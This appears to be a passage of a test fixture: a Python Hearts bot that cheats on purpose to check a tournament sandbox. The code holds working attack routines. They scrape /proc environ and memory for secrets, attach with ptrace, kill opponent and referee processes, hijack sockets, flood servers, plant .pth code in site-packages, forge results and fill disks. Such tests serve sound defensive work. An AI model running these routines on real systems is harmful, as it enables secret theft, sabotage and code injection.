"""A Hearts bot that cheats: one attack of the "Fair play I" issue per run.

The tests copy this file into a bot folder with an ``attack.json`` next to it
and play it in a real tournament. It plays a deterministic legal strategy
(pass the three highest cards, play the lowest legal card), so a tournament
with it is reproducible, and on its first game it runs the attack named in
``attack.json``. Every part of an attack ends with one line on stderr (which
the referee keeps in ``OUT/bots/**/NAME.stderr.log``)::

    ATTACK <attack> <part>: SUCCEEDED: <what it achieved>
    ATTACK <attack> <part>: FAILED: <why>

and a success is also written as a file into the ``canary`` folder, which the
test made outside the bot's folder (a sandboxed bot cannot write there: the
stderr line is what the test relies on).

Safety: when the test runs it without a sandbox, every attack works, so
whatever it destroys or disturbs (files it writes, processes it signals,
servers it floods or impersonates) must belong to the test: a path inside
``scope`` (the test's folder), a process whose working directory or command
line is inside ``scope``, or a bot server whose handshake names the test's
honest bot. Discovery (reading /proc, walking folders) looks everywhere when
``contained`` is true (the test expects a sandbox), and inside ``scope``
only otherwise.

``attacker.py --build`` is the build-step attack (standard library only).
``--no-attack`` plays the same strategy without attacking (the control run).
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import signal
import stat
import sys
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONFIG = json.loads((HERE / "attack.json").read_text())
ATTACK: str = CONFIG["attack"]
CANARY = Path(CONFIG["canary"])
SCOPE = Path(CONFIG["scope"])
CONTAINED: bool = CONFIG.get("contained", False)
TOKEN: str = CONFIG["token"]
HONEST_NAME: str = CONFIG.get("honest_name", "fairplay-honest")
SECRET_RE = re.compile(rb"FAIRPLAY-SECRET-[0-9a-f]{16}")
MARKER_RE = re.compile(rb"FAIRPLAY-MARKER-[0-9a-f]{16}")
MIB = 1 << 20
WALK_SKIP = {
    "/proc",
    "/sys",
    "/dev",
    "/usr",
    "/lib",
    "/lib32",
    "/lib64",
    "/bin",
    "/sbin",
    "/boot",
    "/snap",
    "/var/lib",
    "/var/cache",
    "/etc/ssl",
    "/usr/share",
}


# Reporting -----------------------------------------------------------------------------


_results: list[tuple[str, bool, str]] = []


def say(line: str) -> None:
    print(line, file=sys.stderr, flush=True)


def report(part: str, ok: bool, detail: str) -> None:
    detail = " ".join(str(detail).split())[:600]
    _results.append((part, ok, detail))
    say(f"ATTACK {ATTACK} {part}: {'SUCCEEDED' if ok else 'FAILED'}: {detail}")
    if ok:
        with contextlib.suppress(OSError):
            CANARY.mkdir(parents=True, exist_ok=True)
            (CANARY / f"{ATTACK}-{part}-{os.getpid()}.txt").write_text(detail + "\n")


def guarded(part: str):
    """Run an attack part; an exception is a failure of that part, never a crash."""

    def wrap(fn):
        def run(*args, **kwargs):
            try:
                return fn(*args, **kwargs)
            except Exception as error:  # the attack must go on
                report(part, False, f"{type(error).__name__}: {error}")
                return None

        return run

    return wrap


# Discovery -----------------------------------------------------------------------------


def read(path: str | Path, limit: int = 1 << 22) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def in_scope(path: str) -> bool:
    return path == str(SCOPE) or path.startswith(f"{SCOPE}/")


def pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def ancestors() -> set[int]:
    out, pid = set(), os.getpid()
    while pid > 1:
        out.add(pid)
        st = read(f"/proc/{pid}/stat")
        if not st:
            break
        pid = int(st[st.rfind(b")") + 2 :].split()[1])
    out.add(pid)
    return out


def descendants() -> set[int]:
    out, todo = set(), [os.getpid()]
    while todo:
        p = todo.pop()
        out.add(p)
        for tid in os.listdir(f"/proc/{p}/task") if os.path.isdir(f"/proc/{p}/task") else []:
            kids = read(f"/proc/{p}/task/{tid}/children") or b""
            todo.extend(int(k) for k in kids.split())
    return out


def cmdline(pid: int) -> list[str]:
    raw = read(f"/proc/{pid}/cmdline") or b""
    return [a.decode(errors="replace") for a in raw.split(b"\0") if a]


def cwd(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def others() -> list[int]:
    """Visible processes that are not this bot, its ancestors or its children."""
    mine = ancestors() | descendants()
    return [p for p in pids() if p not in mine]


def attributable(pid: int) -> bool:
    """A process the test started: its working directory or command line is in scope."""
    return in_scope(cwd(pid)) or any(str(SCOPE) in a for a in cmdline(pid))


def my_socket() -> str | None:
    address = ARGS.get("address") or ""
    return address[5:] if address.startswith("unix:") else None


def discovery_roots() -> list[str]:
    """Folders worth walking: what the processes we can see point at, plus / when contained."""
    roots: set[str] = set()
    for pid in pids():
        for path in [cwd(pid), *cmdline(pid)]:
            if path.startswith("/"):
                roots.add(path if os.path.isdir(path) else os.path.dirname(path))
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    target = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if target.startswith("/"):
                        roots.add(os.path.dirname(target))
    for var in ("HOME", "TMPDIR"):
        if os.environ.get(var):
            roots.add(os.environ[var])
    roots |= {"/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/srv", "/opt", "/run"}
    wanted: set[str] = set()
    for root in roots:
        # Widen each to its ancestors up to the scope (or /): that is where output folders sit.
        path = os.path.normpath(root)
        while True:
            if CONTAINED or in_scope(path):
                wanted.add(path)
            parent = os.path.dirname(path)
            if parent == path or (not CONTAINED and not in_scope(parent)):
                break
            path = parent
    if not CONTAINED:
        wanted.add(str(SCOPE))
    # Where we are first (our folder, then the folders around it, nearest first), then the
    # most specific: when the walk runs out of budget, those have been seen.
    here = [str(HERE), os.getcwd()]
    for path in list(here):
        while path not in ("/", ""):
            path = os.path.dirname(path)
            if CONTAINED or in_scope(path):
                here.append(path)
    first = [p for p in dict.fromkeys(here) if p in wanted or p in (str(HERE), os.getcwd())]
    rest = sorted(set(wanted) - set(first), key=lambda p: (-p.count("/"), p))
    return first + rest


_walk_cache: list[str] | None = None


def all_files(budget_s: float = 15.0, max_entries: int = 200_000) -> list[str]:
    """Every file reachable from the discovery roots (bounded), cached."""
    global _walk_cache
    if _walk_cache is not None:
        return _walk_cache
    files: list[str] = []
    visited: set[str] = set()
    seen = 0
    end = time.monotonic() + budget_s
    for root in discovery_roots():
        if root in visited:
            continue
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            visited.add(dirpath)
            dirnames[:] = [
                d
                for d in dirnames
                if os.path.join(dirpath, d) not in WALK_SKIP
                and os.path.join(dirpath, d) not in visited
            ]
            files.extend(os.path.join(dirpath, f) for f in filenames)
            seen += len(filenames) + len(dirnames)
            if seen > max_entries or time.monotonic() > end:
                break
        if seen > max_entries or time.monotonic() > end:
            break
    _walk_cache = sorted(set(files))
    return _walk_cache


def not_mine(path: str) -> bool:
    """Not one of this bot's own files (its folder may hold others' in a flat layout)."""
    own = {str(HERE / name) for name in ("attacker.py", "attack.json", "bot.yaml")}
    return path not in own and "/__pycache__/" not in path


# The game state the attacks use ------------------------------------------------------


class Game:
    started = threading.Event()
    dealt = threading.Event()
    verdict = threading.Event()
    game_id = ""
    seat = -1
    players: tuple[str, ...] = ()
    rules = None
    hand: tuple[str, ...] = ()


def card_str(card) -> str:
    from referee.protocol import card_from_pb

    return str(card_from_pb(card))


# Attacks -------------------------------------------------------------------------------


def attack_read_logs() -> None:
    """Item 1: find the log of the game being played and read every hand in its deal record."""
    mine = sorted(Game.hand)
    logs = [f for f in all_files() if f.endswith(".jsonl")]
    for pid in others():
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    target = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if target.endswith(".jsonl"):
                        logs.append(target)
                        logs.append(f"/proc/{pid}/fd/{fd}")
    tried = 0
    for path in logs:
        data = read(path, 1 << 24)
        if data is None:
            continue
        tried += 1
        for line in data.splitlines():
            if b'"deal"' not in line:
                continue
            with contextlib.suppress(ValueError, KeyError, TypeError):
                record = json.loads(line)
                hands = record["hands"]
                if record.get("type") == "deal" and any(sorted(h) == mine for h in hands):
                    others_ = [h for h in hands if sorted(h) != mine]
                    report("game-log", True, f"read every hand of my game in {path}: {others_}")
                    return
    report(
        "game-log", False, f"no log with my deal among {len(logs)} candidates ({tried} readable)"
    )


def attack_read_seed() -> None:
    """Item 1: the seed (and the tournament key) from the referee's command line and output
    folder; recompute every deal with referee.engine."""
    from referee.engine import card_list, deal
    from referee.engine.cards import Card
    from referee.schedule import derive_seed

    try:
        from referee.folder.seal import game_seed
    except ImportError:  # before the tournament key: deals came from the seed alone
        game_seed = None

    configs: set[str] = set()
    keys: set[bytes] = set()
    for pid in others():
        args = cmdline(pid)
        base = cwd(pid)
        for arg in args:
            path = arg if arg.startswith("/") else os.path.join(base, arg)
            if arg.endswith((".yaml", ".yml", ".json")):
                configs.add(path)
            if os.path.isfile(path) and (CONTAINED or in_scope(path)):
                text = (read(path, 200) or b"").strip()
                if re.fullmatch(rb"[0-9a-f]{64}", text):
                    keys.add(bytes.fromhex(text.decode()))
    files = all_files()
    configs |= {f for f in files if f.endswith(("tournament.json", ".yaml", ".yml"))}
    for f in files:
        if os.path.basename(f) == "key" or "key" in os.path.basename(f):
            text = (read(f, 200) or b"").strip()
            if re.fullmatch(rb"[0-9a-f]{64}", text):
                keys.add(bytes.fromhex(text.decode()))
    seeds: set[int] = set()
    for path in configs:
        if not CONTAINED and not in_scope(path):
            continue
        text = (read(path) or b"").decode(errors="replace")
        for m in re.finditer(r'(?m)"?seed"?\s*:\s*(\d+)', text):
            seeds.add(int(m.group(1)))
    mine = sorted(Game.hand)

    def candidates(seed, table, deal_set):
        if game_seed is None:
            yield derive_seed(seed, "table", table, "set", deal_set)
        for key in keys:
            yield game_seed(key, seed, table=table, deal_set=deal_set)

    for seed in seeds:
        for table in range(1, 30):
            for deal_set in range(1, 4):
                for s in candidates(seed, table, deal_set):
                    hands = deal(Game.rules, s, 1)
                    shown = [sorted(str(Card(c)) for c in card_list(h)) for h in hands]
                    if mine in shown:
                        report(
                            "seed",
                            True,
                            f"tournament seed {seed} and key -> table {table} set {deal_set}: every hand {shown}",
                        )
                        return
    report(
        "seed",
        False,
        f"{len(configs)} config candidates, seeds {sorted(seeds)}, {len(keys)} keys: no deal of mine",
    )


def attack_read_processes() -> None:
    """Item 2: environ and memory of other processes, ptrace, opponents' sources and logs."""
    secrets: set[str] = set()
    environs = 0
    for pid in sorted(set(pids()) - descendants()):  # the referee may be an ancestor
        data = read(f"/proc/{pid}/environ")
        if data:
            environs += 1
            secrets |= {m.decode() for m in SECRET_RE.findall(data)}
    if secrets:
        report("environ", True, f"secrets in other processes' environment: {sorted(secrets)}")
    else:
        report("environ", False, f"read {environs} other environments, no secret")

    markers: set[str] = set()
    scanned = 0
    for pid in others():
        if not (CONTAINED or attributable(pid)):
            continue
        maps = (read(f"/proc/{pid}/maps") or b"").decode(errors="replace")
        try:
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115 (closed below)
        except OSError:
            continue
        total = 0
        with mem:
            for line in maps.splitlines():
                fields = line.split()
                if (
                    len(fields) < 2
                    or not fields[1].startswith("r")
                    or (len(fields) > 5 and fields[5].startswith("[v"))
                ):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > 256 * MIB or total > 512 * MIB:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                total += len(chunk)
                markers |= {m.decode() for m in MARKER_RE.findall(chunk)}
        scanned += 1
    if markers:
        report("memory", True, f"read opponents' memory: {sorted(markers)}")
    else:
        report("memory", False, f"read the memory of {scanned} processes, no opponent marker")

    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    traced, errors = [], set()
    for pid in others():
        if not attributable(pid) and not CONTAINED:
            continue
        if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            traced.append(pid)
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        else:
            errors.add(os.strerror(ctypes.get_errno()))
    if traced:
        report(
            "ptrace", True, f"attached to {traced} ({[' '.join(cmdline(p))[:80] for p in traced]})"
        )
    else:
        report("ptrace", False, f"no process to attach to ({sorted(errors) or 'none visible'})")

    _read_sources()
    _read_logs()


def _read_sources() -> None:
    found = set()
    sources = [f for f in all_files() if f.endswith((".py", ".yaml")) and not_mine(f)]
    for pid in others():
        base = cwd(pid)
        if base and not base.startswith(str(HERE)):
            sources += [os.path.join(base, "bot.py"), f"/proc/{pid}/cwd/bot.py"]
    for path in sources:
        data = read(path)
        if data:
            found |= {m.decode() for m in MARKER_RE.findall(data)}
    if found:
        report("sources", True, f"read opponents' sources: {sorted(found)}")
    else:
        report("sources", False, f"{len(sources)} candidate sources, no opponent's")


def _read_logs() -> None:
    logs = [
        f
        for f in all_files()
        if f.endswith((".stderr.log", ".stdout.log", ".build.log"))
        and not os.path.basename(f).startswith(ARGS["name"] + ".")
    ]
    readable = [f for f in logs if read(f) is not None]
    if readable:
        report("logs", True, f"read opponents' logs: {readable[:5]}")
    else:
        report("logs", False, "no opponent's log visible")


def victims() -> list[int]:
    """The opponents' processes: started by the test, and not the referee or its workers."""
    referee = ("referee.cli", "multiprocessing", "pytest", "fairplay-daemon", "fairplay-orphan")
    return [
        p
        for p in others()
        if attributable(p) and not any(r in " ".join(cmdline(p)) for r in referee)
    ]


def attack_signal_opponents() -> None:
    """Item 3: SIGSTOP the opponents (they time out), then SIGKILL them (they crash)."""
    targets = victims()
    stopped = []
    for pid in targets:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
    blind = blind_pids() if CONTAINED else []
    if stopped:
        report(
            "sigstop", True, f"stopped {stopped}: {[' '.join(cmdline(p))[:60] for p in stopped]}"
        )
    else:
        report("sigstop", False, f"no opponent process visible ({len(pids())} pids, blind {blind})")
        report("sigkill", False, "no opponent process to kill")
        return
    Game.verdict.set()
    time.sleep(3)  # long enough for the referee to give up on a stopped opponent
    killed = []
    for pid in stopped:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    for pid in victims():  # the restarted ones too
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    if killed:
        report("sigkill", True, f"killed {killed}")
    else:
        report("sigkill", False, "no opponent process to kill")


def blind_pids() -> list[int]:
    """Pids that answer kill(pid, 0) but are not in our /proc: processes outside our sight."""
    visible = set()
    for pid in pids():
        with contextlib.suppress(OSError):
            visible |= {int(t) for t in os.listdir(f"/proc/{pid}/task")}
    limit = int((read("/proc/sys/kernel/pid_max") or b"32768").strip() or 32768)
    out = []
    end = time.monotonic() + 3
    for pid in range(2, min(limit, 1 << 18)):
        if pid % 4096 == 0 and time.monotonic() > end:
            break
        if pid in visible:
            continue
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError:
            pass
        out.append(pid)
        if len(out) > 20:
            break
    return out


def attack_kill_referee() -> None:
    """Item 3: SIGKILL the referee (a process whose command line runs the tournament)."""
    targets = []
    mine = descendants()
    for pid in pids():
        if pid in mine or pid == 1:
            continue
        args = " ".join(cmdline(pid))
        if "referee.cli" in args and (str(SCOPE) in args or pid in ancestors()):
            targets.append(pid)
    killed = []
    if targets:
        say(f"ATTACK {ATTACK} sigkill: TRIED: killing the referee {targets}")
    for pid in targets:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    if killed:
        report("sigkill", True, f"killed the referee {killed}")
    else:
        blind = blind_pids() if CONTAINED else []
        report("sigkill", False, f"no referee visible among {len(pids())} pids (blind {blind})")


# Item 4: take over an opponent's seat --------------------------------------------------

_hijacked: dict[str, list] = {}


def _hijack_servicer():
    from referee.botkit import pb, pb_grpc

    class Hijack(pb_grpc.HeartsBotServicer):
        def __init__(self, where: str) -> None:
            self.where = where

        def _got(self, what: str, request) -> None:
            if what not in ("PassCards", "PlayCard") or (
                getattr(request, "seat", -1) == Game.seat and request.game_id == Game.game_id
            ):
                return
            if not _hijacked.get(self.where):
                _hijacked[self.where] = [what]
                hand = [card_str(c) for c in request.hand]
                report(
                    "seat",
                    True,
                    f"took over the seat behind {self.where}: got its {what} with hand {hand}",
                )

        def Handshake(self, request, context):
            return pb.HandshakeResponse(name=HONEST_NAME, version="1.0.0", protocol_version=1)

        def StartGame(self, request, context):
            return pb.StartGameResponse()

        def DealHand(self, request, context):
            return pb.DealHandResponse()

        def PassCards(self, request, context):
            self._got("PassCards", request)
            return pb.PassCardsResponse(cards=STRATEGY.pass_cards(request))

        def PlayCard(self, request, context):
            self._got("PlayCard", request)
            return pb.PlayCardResponse(card=STRATEGY.play_card(request))

        def ChooseMoonScoring(self, request, context):
            return pb.ChooseMoonScoringResponse(choice=pb.MOON_SCORING_ADD_TO_OTHERS)

        def EndHand(self, request, context):
            return pb.EndHandResponse()

        def EndGame(self, request, context):
            return pb.EndGameResponse()

    return Hijack


def _serve_hijack(address: str, copies: int) -> int:
    from concurrent import futures

    import grpc
    from grpc_health.v1 import health, health_pb2, health_pb2_grpc

    from referee.botkit import pb_grpc

    bound = 0
    for _ in range(copies):
        server = grpc.server(
            futures.ThreadPoolExecutor(max_workers=2), options=[("grpc.so_reuseport", 1)]
        )
        pb_grpc.add_HeartsBotServicer_to_server(_hijack_servicer()(address), server)
        h = health.HealthServicer()
        health_pb2_grpc.add_HealthServicer_to_server(h, server)
        try:
            if server.add_insecure_port(address) == 0:
                continue
        except RuntimeError:
            continue
        server.start()
        for service in ("", "hearts.v1.HeartsBot"):
            h.set(service, health_pb2.HealthCheckResponse.SERVING)
        _SERVERS.append(server)
        bound += 1
    return bound


_SERVERS: list = []


def opponent_ports() -> dict[int, int]:
    """port -> pid of the opponents' listening TCP ports (command lines and /proc/net/tcp)."""
    found: dict[int, int] = {}
    for pid in victims():
        args = cmdline(pid)
        for i, arg in enumerate(args):
            value = args[i + 1] if i + 1 < len(args) else ""
            if arg.startswith("--port="):
                value, arg = arg.split("=", 1)[1], "--port"
            if arg == "--port" and value.isdigit():
                found[int(value)] = pid
    return found


def opponent_sockets() -> list[str]:
    """Unix socket files of other bots: on disk and in /proc/net/unix."""
    out = set()
    for f in all_files():
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.lstat(f).st_mode):
                out.add(f)
    for line in (read("/proc/net/unix") or b"").decode(errors="replace").splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith("/"):
            out.add(parts[7])
    mine = my_socket()
    return sorted(
        p
        for p in out
        if p != mine and not p.startswith(str(HERE) + "/") and (CONTAINED or in_scope(p))
    )


def guessed_sockets() -> list[str]:
    """Other bots' socket paths guessed from ours (``.../bN/bot.sock``), seen or not."""
    sock = my_socket()
    m = re.search(r"^(.*)/b(\d+)/([^/]+)$", sock or "")
    if not m:
        return []
    n = int(m.group(2))
    return [f"{m.group(1)}/b{k}/{m.group(3)}" for k in range(max(1, n - 6), n + 7) if k != n]


def attack_takeover() -> None:
    """Item 4: listen on an opponent's port first, or replace its socket file."""
    done: set[object] = set()
    sockets_tried = []
    for path in opponent_sockets() + guessed_sockets():
        if not (in_scope(path) or (CONTAINED and _is_honest(f"unix:{path}"))):
            continue
        try:
            os.unlink(path)
        except OSError as error:
            sockets_tried.append(f"{path}: {error.strerror}")
            continue
        if _serve_hijack(f"unix:{path}", 1):
            report("socket", True, f"replaced the socket {path} with mine")
        done.add(path)
    if not done:
        report(
            "socket", False, f"no opponent socket to replace ({sockets_tried or 'none visible'})"
        )
    ports = opponent_ports()
    if not ports:
        report("seat", False, f"no opponent port visible ({len(pids())} pids)")
        Game.verdict.set()
        return
    Game.verdict.set()
    # Listen on every opponent port we see (SO_REUSEPORT: many of ours, one of theirs), then
    # kill the opponent so that the referee restarts it on a new port, which we also take
    # before the new process is up.
    end = time.monotonic() + 25
    killed = False
    while time.monotonic() < end and not _hijacked:
        for port, pid in opponent_ports().items():
            if port in done:
                continue
            done.add(port)
            n = _serve_hijack(f"127.0.0.1:{port}", 12)
            say(f"attacker: listening {n} times on {port} (pid {pid})")
            if not killed:
                killed = True
                with contextlib.suppress(OSError):
                    for p in victims():
                        if "bot.py" in " ".join(cmdline(p)) and "sandbox.py" not in " ".join(
                            cmdline(p)
                        ):
                            os.kill(p, signal.SIGKILL)
        time.sleep(0.005)
    if not _hijacked:
        report(
            "seat",
            False,
            f"listened on {sorted(p for p in done if isinstance(p, int))} but received nothing",
        )


# Item 5: use the network against opponents ------------------------------------------


def listening_tcp() -> dict[int, str]:
    """port -> socket inode of listening TCP sockets (IPv4 and IPv6)."""
    out = {}
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (read(name) or b"").decode().splitlines()[1:]:
            parts = line.split()
            if len(parts) > 9 and parts[3] == "0A":
                out[int(parts[1].rsplit(":", 1)[1], 16)] = parts[9]
    return out


def socket_owners() -> dict[str, int]:
    owners = {}
    for pid in pids():
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if link.startswith("socket:["):
                        owners[link[8:-1]] = pid
    return owners


def _is_honest(target: str) -> bool:
    """True if the server at ``target`` is the test's honest bot (never flood anyone else)."""
    import grpc

    from referee.botkit import pb, pb_grpc

    try:
        with grpc.insecure_channel(target) as channel:
            answer = pb_grpc.HeartsBotStub(channel).Handshake(pb.HandshakeRequest(), timeout=1.5)
            return answer.name == HONEST_NAME
    except grpc.RpcError:
        return False


def _heavy_request():
    from referee.botkit import pb

    card = pb.Card(suit=pb.SUIT_CLUBS, rank=pb.RANK_TWO)
    other = pb.Card(suit=pb.SUIT_CLUBS, rank=pb.RANK_THREE)
    trick = pb.Trick(plays=[pb.Play(seat=i % 4, card=card) for i in range(4)])
    return pb.PlayCardRequest(
        game_id="flood",
        seat=0,
        hand=[card, other],
        legal_moves=[card, other],
        tricks=[trick] * 85_000,
        current_trick=pb.Trick(plays=[pb.Play(seat=0, card=card)]),
    )


def attack_flood() -> None:
    """Item 5: call the opponents' servers directly and flood them into timeouts."""
    import grpc

    from referee.botkit import pb_grpc

    mine_port = ARGS.get("port")
    owners = socket_owners()
    targets = []
    for port, inode in listening_tcp().items():
        if port == mine_port:
            continue
        owner = owners.get(inode)
        if owner is not None and (owner in ancestors() | descendants()):
            continue
        if (owner is not None and attributable(owner)) or (
            CONTAINED and _is_honest(f"127.0.0.1:{port}")
        ):
            targets.append(f"127.0.0.1:{port}")
    for path in opponent_sockets():
        if in_scope(path) or _is_honest(f"unix:{path}"):
            targets.append(f"unix:{path}")
    reached = [t for t in targets if _is_honest(t)]
    if not reached:
        report(
            "flood",
            False,
            f"no opponent server reachable ({len(listening_tcp())} listening ports, targets {targets})",
        )
        Game.verdict.set()
        return
    report("reach", True, f"called the opponents' servers directly: {reached}")
    Game.verdict.set()
    request = _heavy_request()
    answered = 0
    reported: list[bool] = []
    lock = threading.Lock()

    def hammer(target: str) -> None:
        nonlocal answered
        with grpc.insecure_channel(
            target, options=[("grpc.max_send_message_length", 16 * MIB)]
        ) as channel:
            stub = pb_grpc.HeartsBotStub(channel)
            end = time.monotonic() + CONFIG.get("flood_s", 15)
            while time.monotonic() < end:
                calls = [stub.PlayCard.future(request, timeout=60) for _ in range(48)]
                for call in calls:
                    with contextlib.suppress(grpc.RpcError):
                        call.result()
                        with lock:
                            answered += 1
                            if not reported:
                                reported.append(True)
                                report("flood", True, f"heavy calls answered by {reached}")

    threads = [
        threading.Thread(target=hammer, args=(t,), daemon=True) for t in reached for _ in range(4)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if not reported:
        report("flood", False, f"no heavy call answered by {reached}")


# Item 6: change code and results ------------------------------------------------------


def attack_tamper_code() -> None:
    """Item 6: a .pth in site-packages (or a module in the referee package); rewrite bot.py."""
    _write_pth()
    _rewrite_bot_py()


def _write_pth() -> None:
    import site
    import sysconfig

    dirs = list(CONFIG.get("site_dirs", []))
    if CONTAINED:
        dirs += [
            *site.getsitepackages(),
            site.getusersitepackages(),
            sysconfig.get_paths()["purelib"],
        ]
        dirs += [p for p in sys.path if p.endswith("site-packages")]
    written, refused = [], set()
    for folder in dict.fromkeys(dirs):
        path = os.path.join(folder, f"zz-fairplay-{TOKEN}.pth")
        try:
            with open(path, "x") as f:
                f.write(f"# fairplay attack {TOKEN}: a .pth runs code at every Python start\n")
            written.append(path)
        except OSError as error:
            refused.add(f"{folder}: {error.strerror}")
    if CONTAINED:
        try:
            import referee

            packages = [os.path.dirname(referee.__file__)]
        except ImportError:  # a build's Python may not have it: look for it
            packages = [
                os.path.dirname(f) for f in all_files() if f.endswith("/referee/__init__.py")
            ]
        for package in packages:
            path = os.path.join(package, f"fairplay_{TOKEN}.py")
            try:
                with open(path, "x") as f:
                    f.write(f"# fairplay attack {TOKEN}\n")
                written.append(path)
            except OSError as error:
                refused.add(f"referee package: {error.strerror}")
    if written:
        report("pth", True, f"wrote {written}")
    else:
        report("pth", False, f"refused: {sorted(refused)}")


def _rewrite_bot_py() -> None:
    rewritten, refused = [], set()
    candidates = {f for f in all_files() if os.path.basename(f) == "bot.py" and not_mine(f)}
    for pid in victims():
        if cwd(pid):
            candidates.add(os.path.join(cwd(pid), "bot.py"))
    for path in sorted(candidates):
        if not in_scope(path):
            continue
        try:
            with open(path, "a") as f:
                f.write(f"\n# tampered by the fairplay attack {TOKEN}\n")
            rewritten.append(path)
        except OSError as error:
            refused.add(f"{path}: {error.strerror}")
    if rewritten:
        report("botpy", True, f"rewrote {rewritten}")
    else:
        report(
            "botpy",
            False,
            f"{len(candidates)} opponent bot.py in sight; refused: {sorted(refused)}",
        )


def attack_tamper_results() -> None:
    """Item 6: write the journal and the game logs."""
    targets = [
        f
        for f in all_files()
        if (
            f.endswith(("journal.jsonl", "tournament.json"))
            or ("/games/" in f and f.endswith(".jsonl"))
        )
    ]
    written, refused = [], set()
    for path in targets:
        if not in_scope(path):
            continue
        line = json.dumps({"type": "forged", "by": TOKEN, "scores": [0, 0, 0, 0]})
        try:
            with open(path, "a") as f:
                f.write(line + "\n")
            written.append(path)
        except OSError as error:
            refused.add(f"{path}: {error.strerror}")
    if written:
        report("write", True, f"appended forged lines to {written}")
    else:
        report("write", False, f"{len(targets)} result files in sight; refused {sorted(refused)}")


# Item 7: escape limits ------------------------------------------------------------------


def attack_disk() -> None:
    """Item 7: write as much as possible wherever we can (capped so a real disk is spared)."""
    cap = CONFIG.get("disk_cap", 40 * MIB)
    limit = CONFIG.get("disk_limit", 8 * MIB)
    places = [str(HERE), str(SCOPE)] + [
        os.path.dirname(f) for f in all_files() if f.endswith("journal.jsonl")
    ]
    if CONTAINED:
        places += [
            os.environ.get("HOME", ""),
            os.environ.get("TMPDIR", ""),
            "/tmp",
            "/var/tmp",
            os.getcwd(),
            "/run",
            "/root",
        ]
    results = {}
    chunk = b"\0" * MIB
    for place in dict.fromkeys(p for p in places if p):
        if not (CONTAINED or in_scope(place)):
            continue
        path = os.path.join(place, f"fill-{TOKEN}-{os.getpid()}.bin")
        written = 0
        try:
            with open(path, "wb") as f:
                while written < cap:
                    f.write(chunk)
                    f.flush()
                    written += len(chunk)
                os.fsync(f.fileno())
        except OSError:
            pass
        results[place] = written
        if CONTAINED:  # give the memory back (a sandbox's tmpfs)
            with contextlib.suppress(OSError):
                os.unlink(path)
    over = {p: n for p, n in results.items() if n > limit}
    if over:
        report(
            "fill",
            True,
            f"wrote past the {limit >> 20} MiB limit: { {p: n >> 20 for p, n in over.items()} } MiB",
        )
    else:
        report(
            "fill",
            False,
            f"stopped at the limit everywhere: { {p: n >> 20 for p, n in results.items()} } MiB",
        )


def _fill_socket_dir() -> None:
    """The folder of our socket is on the host: write past the memory limit there."""
    sock = my_socket()
    if not sock:
        report("socket-dir", False, "no socket folder (a TCP port)")
        return
    limit = CONFIG.get("memory_limit", 256 * MIB)
    path = os.path.join(os.path.dirname(sock), f"fill-{TOKEN}.bin")
    written = 0
    try:
        with open(path, "wb") as f:
            while written < limit + 32 * MIB:
                f.write(b"\1" * MIB)
                written += MIB
        time.sleep(2)
        report(
            "socket-dir",
            True,
            f"wrote {written >> 20} MiB next to my socket, past the {limit >> 20} MiB memory limit",
        )
    except OSError as error:
        report("socket-dir", False, f"{path}: {error.strerror} after {written >> 20} MiB")
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


def attack_shm() -> None:
    """Item 7: leave a file in /dev/shm that outlives the bot (and holds memory past the limit)."""
    size = CONFIG.get("shm_bytes", MIB)
    path = f"/dev/shm/fairplay-{TOKEN}"
    written = 0
    try:
        with open(path, "wb") as f:
            while written < size:
                f.write(b"\1" * MIB)
                written += MIB
    except OSError as error:
        report("shm", False, f"{path}: {error.strerror} after {written >> 20} MiB")
        return
    # Whether it outlives the bot is for the test to see from outside.
    say(f"ATTACK {ATTACK} shm: TRIED: wrote {written >> 20} MiB to {path}")
    # The one folder on the host's /dev/shm we may write: our socket's. Left there, to see
    # whether it outlives us.
    sock = my_socket()
    if sock:
        path = os.path.join(os.path.dirname(sock), f"shm-{TOKEN}.bin")
        try:
            with open(path, "wb") as f:
                f.write(b"\1" * size)
            say(f"ATTACK {ATTACK} socket-dir: TRIED: left {size >> 20} MiB in {path}")
        except OSError as error:
            report("socket-dir", False, f"{path}: {error.strerror}")


DAEMON = r"""
import os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
try:
